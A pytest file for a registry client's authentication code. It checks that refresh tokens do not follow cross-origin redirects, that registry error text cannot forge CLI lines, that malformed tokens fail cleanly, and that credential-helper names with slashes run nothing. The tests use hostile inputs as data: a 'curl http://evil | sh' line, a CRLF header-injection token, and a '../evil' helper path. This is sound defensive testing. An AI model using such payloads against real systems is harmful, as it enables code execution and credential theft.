"""Credentials against a registry (or a token service) that tries to send them elsewhere: a
secret goes to the origin it was meant for, never on to another one a redirect names."""

from __future__ import annotations

import http.server
import json
import os
from collections.abc import Iterator

import pytest

from tests.remote.fake_registry import FakeRegistry
from veloverlay.errors import Reason, VeloError
from veloverlay.remote import Options
from veloverlay.remote.auth import Credentials, find_credentials
from veloverlay.remote.client import Registry
from veloverlay.remote.name import parse_remote


@pytest.fixture
def other() -> Iterator[FakeRegistry]:
    """Another origin (same address, other port): here, the attacker."""
    f = FakeRegistry()
    yield f
    f.close()


@pytest.mark.parametrize("status", [307, 308])
def test_an_identity_token_does_not_follow_a_redirect_to_another_origin(
    fake: FakeRegistry, other: FakeRegistry, status: int
) -> None:
    """The OAuth2 POST carries the identity token in its body, and a 307/308 keeps the body on
    the next hop: httpx strips only the Authorization header when the origin changes, so the
    refresh token went to whatever origin the token service named (plain http included)."""
    bodies: list[bytes] = []

    def registry(h: http.server.BaseHTTPRequestHandler, method: str) -> bool:
        if h.path.startswith("/token"):
            h.rfile.read(int(h.headers.get("Content-Length") or 0))
            h.send(status, headers={"Location": f"http://{other.host}/steal"})  # type: ignore[attr-defined]
        else:
            realm = f'Bearer realm="http://{fake.host}/token",service="reg"'
            h.send(401, headers={"WWW-Authenticate": realm})  # type: ignore[attr-defined]
        return True

    def thief(h: http.server.BaseHTTPRequestHandler, method: str) -> bool:
        bodies.append(h.rfile.read(int(h.headers.get("Content-Length") or 0)))
        h.send(200, b'{"access_token":"t"}')  # type: ignore[attr-defined]
        return True

    fake.hook, other.hook = registry, thief
    creds = Credentials("<token>", "refresh-SECRET", "test-auth.json", identity_token=True)
    opts = Options(retries=0, timeout=10, backoff=0.01, credentials=creds)
    with Registry(parse_remote(fake.remote()), opts) as reg, pytest.raises(VeloError) as ei:
        reg.get_manifest("v1")
    assert not any(b"SECRET" in b for b in bodies) and other.seen == []
    assert ei.value.reason is Reason.REMOTE_AUTH
    assert other.host.split(":")[1] in ei.value.message and "SECRET" not in ei.value.message


def test_an_identity_token_follows_a_redirect_on_its_own_origin(fake: FakeRegistry) -> None:
    """A token service that moved a path on its own origin still gets the POST, body and all."""
    bodies: list[bytes] = []

    def registry(h: http.server.BaseHTTPRequestHandler, method: str) -> bool:
        if h.path.startswith("/token"):
            h.rfile.read(int(h.headers.get("Content-Length") or 0))
            h.send(307, headers={"Location": "/oauth2/token"})  # type: ignore[attr-defined]
        elif h.path.startswith("/oauth2/token"):
            bodies.append(h.rfile.read(int(h.headers.get("Content-Length") or 0)))
            h.send(200, b'{"access_token":"t"}')  # type: ignore[attr-defined]
        elif h.headers.get("Authorization") != "Bearer t":
            realm = f'Bearer realm="http://{fake.host}/token",service="reg"'
            h.send(401, headers={"WWW-Authenticate": realm})  # type: ignore[attr-defined]
        else:
            return False
        return True

    fake.hook = registry
    fake.manifests["v1"] = b"{}"
    creds = Credentials("<token>", "refresh-SECRET", "test-auth.json", identity_token=True)
    opts = Options(retries=0, timeout=10, backoff=0.01, credentials=creds)
    with Registry(parse_remote(fake.remote()), opts) as reg:
        assert reg.get_manifest("v1")[0] == b"{}"
    assert len(bodies) == 1 and b"refresh_token=refresh-SECRET" in bodies[0]


@pytest.mark.parametrize("sep", ["\n", "\r\n", "\u2028"])
def test_a_registrys_error_text_cannot_add_lines_of_its_own(
    fake: FakeRegistry, shm_tmp: str, sep: str
) -> None:
    """The error text a registry sends is shown escaped; a line break in it was shown as is, so
    the registry could print a `hint:` (or a `reason:`) line that looks like the CLI's own."""
    from tests.helpers.cli import velo

    evil = f"denied{sep}hint: curl http://evil | sh{sep}reason: ok"
    body = json.dumps({"errors": [{"code": f"DENIED{sep}x", "message": evil}]}).encode()

    def registry(h: http.server.BaseHTTPRequestHandler, method: str) -> bool:
        h.send(418, body)  # type: ignore[attr-defined]
        return True

    fake.hook = registry
    r = velo(f"{shm_tmp}/store", "pull", fake.remote())
    err = r.stderr.decode()
    assert r.returncode != 0 and err.startswith("error:")
    lines = err.splitlines()
    assert not [ln for ln in lines if ln.startswith(("hint", "reason"))]  # (a 418 has neither)
    assert "curl http://evil" in err  # (shown, on the line of the registry's text)


@pytest.mark.parametrize("token", ["Q\u00f6Q", "QQ\r\nX-Injected: 1", "Q\x00Q", "QQ QQ"])
def test_a_token_that_cannot_be_a_header_is_an_auth_error(fake: FakeRegistry, token: str) -> None:
    """A token service answering a token that is not printable ASCII: a non-ASCII one ended
    the pull in a UnicodeEncodeError traceback, one with a control character in 'cannot
    reach' (remote-unreachable, after every retry) with the token in the message."""

    def registry(h: http.server.BaseHTTPRequestHandler, method: str) -> bool:
        if h.path.startswith("/token"):
            h.send(200, json.dumps({"token": token}).encode())  # type: ignore[attr-defined]
        else:
            realm = f'Bearer realm="http://{fake.host}/token"'
            h.send(401, headers={"WWW-Authenticate": realm})  # type: ignore[attr-defined]
        return True

    fake.hook = registry
    opts = Options(retries=1, timeout=10, backoff=0.01)
    with Registry(parse_remote(fake.remote()), opts) as reg, pytest.raises(VeloError) as ei:
        reg.get_manifest("v1")
    assert ei.value.reason is Reason.REMOTE_AUTH, ei.value
    assert "QQ" not in str(ei.value) + (ei.value.detail or "")
    asked = [p for _m, p, _a in fake.seen if not p.startswith("/token")]
    assert asked == ["/v2/team/env/manifests/v1"]  # (never asked again with that token)


def test_a_helper_name_with_a_slash_runs_nothing(
    tmp_path: os.PathLike[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """`credsStore: "../evil"` made `docker-credential-../evil`, a path from the cwd, which ran
    (a config file from an archive or a project directory chose a program to run); a NUL in the
    name, or a helper on PATH that cannot run, ended in a traceback. All are remote-auth now."""
    d = str(tmp_path)
    ran = os.path.join(d, "ran")
    os.mkdir(os.path.join(d, "docker-credential-.."))
    evil = os.path.join(d, "docker-credential-..", "evil")
    with open(evil, "w") as f:
        f.write(f'#!/bin/sh\ntouch {ran}\necho \'{{"Username":"u","Secret":"s"}}\'\n')
    os.chmod(evil, 0o755)
    monkeypatch.chdir(d)
    conf = os.path.join(d, "auth.json")
    monkeypatch.setenv("REGISTRY_AUTH_FILE", conf)
    for data in ({"credsStore": "../evil"}, {"credHelpers": {"h.io": "../evil"}}):
        with open(conf, "w") as f:
            json.dump(data, f)
        with pytest.raises(VeloError) as ei:
            find_credentials("h.io", "a")
        assert ei.value.reason is Reason.REMOTE_AUTH, data
        assert "not a program name" in ei.value.message
        assert not os.path.exists(ran)
    with open(conf, "w") as f:
        json.dump({"credsStore": "a\0b"}, f)
    with pytest.raises(VeloError) as ei:
        find_credentials("h.io", "a")
    assert ei.value.reason is Reason.REMOTE_AUTH
    stuck = os.path.join(d, "docker-credential-stuck")
    with open(stuck, "w") as f:
        f.write("#!/bin/sh\necho '{}'\n")
    os.chmod(stuck, 0o644)  # on PATH, not executable
    monkeypatch.setenv("PATH", d + os.pathsep + os.environ.get("PATH", ""))
    with open(conf, "w") as f:
        json.dump({"credsStore": "stuck"}, f)
    with pytest.raises(VeloError) as ei:
        find_credentials("h.io", "a")
    assert ei.value.reason is Reason.REMOTE_AUTH and "docker-credential-stuck" in ei.value.message
